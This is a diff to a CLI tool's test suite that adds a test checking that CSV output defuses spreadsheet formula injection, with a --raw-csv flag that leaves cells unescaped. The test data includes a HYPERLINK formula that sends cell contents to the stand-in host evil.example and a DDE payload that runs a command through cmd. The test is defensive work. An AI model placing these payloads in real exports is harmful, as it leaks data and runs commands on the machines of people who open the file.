@@ -128,6 +128,28 @@ describe('verite query', () => {
     expect(res.stdout).toBe('x,y\n"a,b",2\n');
   });
 
+  it('CSV neutralises text cells a spreadsheet would run as a formula (OWASP CSV injection); numbers stay numbers, --raw-csv writes them as they are', async () => {
+    // A UTM campaign is whatever a visitor's link says: these two are the classic payloads.
+    const sql =
+      `select '=HYPERLINK("https://evil.example/?"&A1,"Click")' as utm_campaign, '@SUM(1+1)*cmd|'' /C calc''!A0' as utm_content, ` +
+      `'-3' as text_minus, -3 as int_minus, -3.5::numeric as numeric_minus, -9007199254740993::bigint as big_minus, '+1 555' as phone`;
+    const csv = await runCli(['query', sql, '--format', 'csv'], { env });
+    expect(csv.code, csv.stderr).toBe(0);
+    // Text: a ' before it (then RFC 4180 quoting where a " or , is in it). Numbers, whichever way the driver gives them: as they are.
+    expect(csv.stdout).toBe(
+      'utm_campaign,utm_content,text_minus,int_minus,numeric_minus,big_minus,phone\n' +
+        `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'@SUM(1+1)*cmd|' /C calc'!A0,'-3,-3,-3.5,-9007199254740993,'+1 555\n`,
+    );
+    const raw = await runCli(['query', sql, '--format', 'csv', '--raw-csv'], { env });
+    expect(raw.stdout).toBe(
+      'utm_campaign,utm_content,text_minus,int_minus,numeric_minus,big_minus,phone\n' +
+        `"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",@SUM(1+1)*cmd|' /C calc'!A0,-3,-3,-3.5,-9007199254740993,+1 555\n`,
+    );
+    const table = await runCli(['query', 'select 1 as x', '--raw-csv'], { env });
+    expect(table.code).toBe(2);
+    expect(table.stderr).toContain('--raw-csv is for --format csv');
+  });
+
   it('refuses to write: a statement that is not a query is a usage error, a write inside a query fails in the read-only transaction', async () => {
     const del = await runCli(['query', 'delete from raw.shopify__orders'], { env });
     expect(del.code).toBe(2);
